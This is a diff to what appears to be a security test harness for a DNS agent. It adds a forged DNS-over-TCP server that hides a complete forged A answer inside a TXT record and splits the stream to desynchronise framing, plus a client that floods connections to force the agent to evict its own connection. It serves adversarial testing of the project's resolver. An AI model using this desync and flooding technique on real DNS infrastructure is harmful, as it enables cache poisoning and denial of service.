@@ -6,6 +6,13 @@
 //   forge BIND_IP           a DNS "server" on BIND_IP:53 that answers each query according to the
 //                           first label of its name (good-, wrongid-, wrongport-, wrongq-,
 //                           unsolicited-, silent-) — forged answers from a trusted address
+//                           Over TCP it answers a pipelined "TXT hidden-N" + "A stolen-N": the TXT
+//                           answer hides a complete framed answer "stolen-N A 198.18.66.6"; the
+//                           stream is written in two parts, split where the hidden message starts,
+//                           a second apart (finding 7); the real answer is stolen-N A 198.18.77.1
+//   tcpdesync SERVER N FLOOD   over one TCP connection asks TXT hidden-N and A stolen-N, then, when
+//                           FLOOD > 0, opens FLOOD more connections to SERVER:53 while the answer
+//                           is half sent (the agent must evict the pod's own oldest connection)
 //   query SERVER SPORT ID NAME   sends one A query from SPORT and exits
 //   respond SRC_PORT DST DST_PORT ID NAME IP   sends one unsolicited A answer and exits
 //   teredo SERVER V6POD V6RESOLVER NAME IP   sends, from UDP port 3544 to SERVER:53, a Teredo-wrapped
@@ -13,6 +20,7 @@
 //                           (NAME A IP) — what a pod without capabilities can send (finding 1)
 //   fetch URL               prints the body of an HTTP GET
 import { createSocket } from "node:dgram";
+import { connect, createServer, type Socket } from "node:net";
 import * as grpc from "@grpc/grpc-js";
 import { agentServiceDefinition, bytesToIp, type AgentServiceHandlers, type ObserveRequest } from "../../src/proto/index.js";
 import { parseDnsMessage } from "../../src/dns/message.js";
@@ -30,6 +38,35 @@ function v6(text: string): number[] {
   const h = head ? head.split(":") : [];
   const t = tail ? tail.split(":") : [];
   return [...h, ...new Array<string>(8 - h.length - t.length).fill("0"), ...t].flatMap((g) => [parseInt(g, 16) >> 8, parseInt(g, 16) & 0xff]);
+}
+
+function framed(...messages: Uint8Array[]): Uint8Array {
+  const parts = messages.flatMap((m) => [Uint8Array.from([m.length >> 8, m.length & 0xff]), m]);
+  return Uint8Array.from(parts.flatMap((p) => [...p]));
+}
+
+/** The forger's DNS-over-TCP side: see "forge" above. Other connections are held open, silent. */
+function serveTcp(conn: Socket): void {
+  conn.setNoDelay(true);
+  conn.on("error", () => {});
+  let buf = Buffer.alloc(0);
+  conn.on("data", (d: Buffer) => {
+    buf = Buffer.concat([buf, d]);
+    if (buf.length < 2) return;
+    const first = parseDnsMessage(buf.subarray(2, 2 + buf.readUInt16BE(0)));
+    if (!first.ok) return;
+    const name = readName(first.message.buf, first.message.questions[0]!.nameOffset) ?? "";
+    if (!name.startsWith("hidden-")) return;
+    buf = Buffer.alloc(0);
+    const stolen = name.replace(/^hidden-/, "stolen-");
+    const answerA = (ip: string, ttl: number) => dnsMessage({ id: 2, response: true, questions: [{ name: stolen, type: T.A }], answers: [{ name: stolen, type: T.A, ttl, data: ip }] });
+    const hidden = framed(answerA("198.18.66.6", 604800));
+    const txt = dnsMessage({ id: 1, response: true, questions: [{ name, type: T.TXT }], answers: [{ name, type: T.TXT, ttl: 60, data: Uint8Array.from([hidden.length, ...hidden]) }] });
+    const stream = framed(txt, answerA("198.18.77.1", 300));
+    const hiddenAt = 2 + txt.length - hidden.length;
+    conn.write(stream.subarray(0, hiddenAt));
+    setTimeout(() => conn.write(stream.subarray(hiddenAt)), 1000);
+  });
 }
 
 /** A Teredo datagram body (RFC 4380: origin indication, then IPv6) carrying one IPv6 UDP packet. */
@@ -89,7 +126,30 @@ async function main(): Promise<void> {
           default: break; // silent-: never answered
         }
       });
+      const tcp = createServer((conn) => serveTcp(conn));
+      await new Promise<void>((r) => tcp.listen(53, ip, () => r()));
       process.stdout.write(JSON.stringify({ ready: true }) + "\n");
+      return;
+    }
+    case "tcpdesync": {
+      const [server, n, flood] = args;
+      const conn = connect(53, server!);
+      conn.setNoDelay(true);
+      await new Promise<void>((r) => conn.once("connect", () => r()));
+      conn.write(framed(dnsMessage({ id: 1, questions: [{ name: `hidden-${n}.egret.test`, type: T.TXT }] }), dnsMessage({ id: 2, questions: [{ name: `stolen-${n}.egret.test`, type: T.A }] })));
+      let got = 0;
+      const done = new Promise<void>((r) => conn.on("data", (d: Buffer) => { got += d.length; if (got >= 2) setTimeout(r, 1800); }));
+      const others: Socket[] = [];
+      await new Promise((r) => setTimeout(r, 300));
+      for (let i = 0; i < Number(flood); i++) {
+        const o = connect(53, server!);
+        o.on("error", () => {});
+        others.push(o);
+        await new Promise<void>((r) => { o.once("connect", () => r()); o.once("error", () => r()); });
+      }
+      await done;
+      for (const o of others) o.destroy();
+      conn.destroy();
       return;
     }
     case "query": {
